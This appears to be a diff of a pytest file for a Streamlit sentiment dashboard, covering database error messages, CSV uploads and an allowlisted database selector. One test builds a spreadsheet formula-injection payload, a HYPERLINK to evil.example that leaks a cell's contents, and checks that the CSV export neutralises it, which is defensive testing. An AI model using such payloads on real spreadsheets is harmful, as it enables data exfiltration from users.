@@ -1,6 +1,8 @@
 """Every page under AppTest on missing, empty, locked, small and 1,000-trial databases."""
 from __future__ import annotations
 
+import csv
+import io
 import json
 import sqlite3
 from collections.abc import Callable
@@ -52,8 +54,8 @@ def test_pages_on_a_missing_database_say_how_to_make_one(open_page: Open, missin
                                                           page: str) -> None:
     at = open_page(missing_db, page)
     no_exception(at)
-    assert "There is no database at" in texts(at.info)
-    assert "python -m trainer run" in texts(at.info)
+    assert "cannot read its database" in texts(at.error)
+    assert "python -m trainer run" in texts(at.error)
     assert not Path(missing_db.removeprefix("sqlite:///")).exists()  # the viewer creates nothing
 
 
@@ -70,15 +72,18 @@ def test_pages_on_an_empty_database_guide_the_user(open_page: Open, empty_db: st
     assert guidance in texts(at.info)
 
 
-def test_unreadable_database_file_is_an_error_box(open_page: Open, tmp_path: Path) -> None:
+def test_unreadable_database_file_is_an_error_box(open_page: Open, tmp_path: Path,
+                                                  caplog: pytest.LogCaptureFixture) -> None:
     (tmp_path / "junk.db").write_text("this is not a database\n" * 100)
     at = open_page(f"sqlite:///{tmp_path / 'junk.db'}", "overview")
     no_exception(at)
-    assert "Could not open the database" in texts(at.error)
+    assert "cannot read its database" in texts(at.error)
+    assert "file is not a database" in caplog.text  # the reason: for the operator only
 
 
 def test_locked_database_is_an_error_box(open_page: Open, tmp_path: Path,
-                                         monkeypatch: pytest.MonkeyPatch) -> None:
+                                         monkeypatch: pytest.MonkeyPatch,
+                                         caplog: pytest.LogCaptureFixture) -> None:
     import storage.engine
 
     monkeypatch.setattr(storage.engine, "SQLITE_BUSY_S", 1)
@@ -91,7 +96,8 @@ def test_locked_database_is_an_error_box(open_page: Open, tmp_path: Path,
     finally:
         holder.close()
     no_exception(at)
-    assert "locked" in texts(at.error)
+    assert "cannot read its database" in texts(at.error)
+    assert "locked" in caplog.text  # the reason: for the operator only
 
 
 def test_overview_shows_stages_warning_tests_and_sentence(open_page: Open,
@@ -266,6 +272,64 @@ def test_live_page_classifies_an_uploaded_csv(open_page: Open, small_db: str) ->
     assert at.download_button(key="live_batch_csv").label == "Download the results as CSV"
 
 
+@pytest.fixture
+def downloaded(monkeypatch: pytest.MonkeyPatch) -> Callable[[AppTest, str], bytes]:
+    """downloaded(at, key) -> the bytes the download button with that key serves.
+
+    AppTest keeps a download's bytes in a media store that it drops after each run; keep them.
+    """
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+    from streamlit.testing.v1 import app_test
+
+    stores: list[MemoryMediaFileStorage] = []
+
+    class KeptMediaStorage(MemoryMediaFileStorage):
+        def __init__(self, media_endpoint: str) -> None:
+            super().__init__(media_endpoint)
+            stores.append(self)
+
+    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", KeptMediaStorage)
+
+    def read(at: AppTest, key: str) -> bytes:
+        name = at.download_button(key=key).proto.url.rsplit("/", 1)[-1]
+        return stores[-1].get_file(name).content  # the latest run's store serves the button
+
+    return read
+
+
+def test_live_page_download_neutralises_formulas_but_shows_cells_as_uploaded(
+    open_page: Open, small_db: str, downloaded: Callable[[AppTest, str], bytes]
+) -> None:
+    link = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full review")'
+    quoted = link.replace('"', '""')
+    data = f'text,id\r\n"{quoted}",1\r\n"@SUM(1+1)",2\r\nA fine film,3\r\n'
+    at = open_page(small_db, "live")
+    at.file_uploader(key="live_csv").set_value(("r.csv", data.encode(), "text/csv")).run()
+    at.button(key="live_batch_run").click().run()
+    no_exception(at)
+    shown = table_with(at, "error")
+    assert shown["text"].tolist() == [link, "@SUM(1+1)", "A fine film"]  # the screen: as uploaded
+    rows = list(csv.DictReader(io.StringIO(downloaded(at, "live_batch_csv").decode("utf-8"),
+                                           newline="")))
+    assert [r["text"] for r in rows] == ["'" + link, "'@SUM(1+1)", "A fine film"]
+    assert [float(r["score"]) for r in rows] == pytest.approx(shown["score"].tolist())
+    assert [r["label"] for r in rows] == shown["label"].tolist()
+
+
+def test_live_page_reads_a_headerless_upload_whole_and_says_so(open_page: Open,
+                                                                small_db: str) -> None:
+    at = open_page(small_db, "live")
+    data = b"A wonderful film\r\nAwful and boring\r\n"
+    at.file_uploader(key="live_csv").set_value(("plain.csv", data, "text/csv")).run()
+    no_exception(at)
+    captions = texts(at.caption).replace("\\", "")
+    assert "2 reviews in plain.csv" in captions
+    assert ("plain.csv has one column and no header row, so its first row was read as a review "
+            "too; to give the file a header, name the column text") in captions
+    at.button(key="live_batch_run").click().run()
+    assert table_with(at, "error")["text"].tolist() == ["A wonderful film", "Awful and boring"]
+
+
 @pytest.mark.parametrize(("data", "message"), [
     (b"text\n\xff\xfe\n", "bad.csv is not valid UTF-8 (line 2)"),
     (b"title,stars\nx,1\n", "expected a column named 'text' or 'review'"),
@@ -318,16 +382,18 @@ def test_pages_work_on_postgresql(open_page: Open, pg_schema_url: str, tmp_path:
         assert not at.error and not at.info
 
 
-def test_sidebar_url_switches_database_and_keeps_it_across_pages(open_page: Open,
-                                                                 empty_db: str,
-                                                                 small_db: str) -> None:
+def test_sidebar_switches_among_allowed_databases_and_keeps_it_across_pages(
+    open_page: Open, empty_db: str, small_db: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("SENTIMENT_DASHBOARD_URLS", f"empty={empty_db} small={small_db}")
     at = open_page(empty_db, "overview")
     assert "holds no evaluated model yet" in texts(at.info)
-    at.sidebar.text_input(key="database_url_input").set_value(small_db).run()
+    assert at.sidebar.selectbox(key="database_choice").options == ["empty", "small"]
+    at.sidebar.selectbox(key="database_choice").set_value("small").run()
     no_exception(at)
     assert len(at.metric) == 3
     at.switch_page("app_pages/evaluation.py").run()
-    assert at.sidebar.text_input(key="database_url_input").value == small_db
+    assert at.sidebar.selectbox(key="database_choice").value == "small"
     assert not at.info and len(at.metric) == 6
 
 
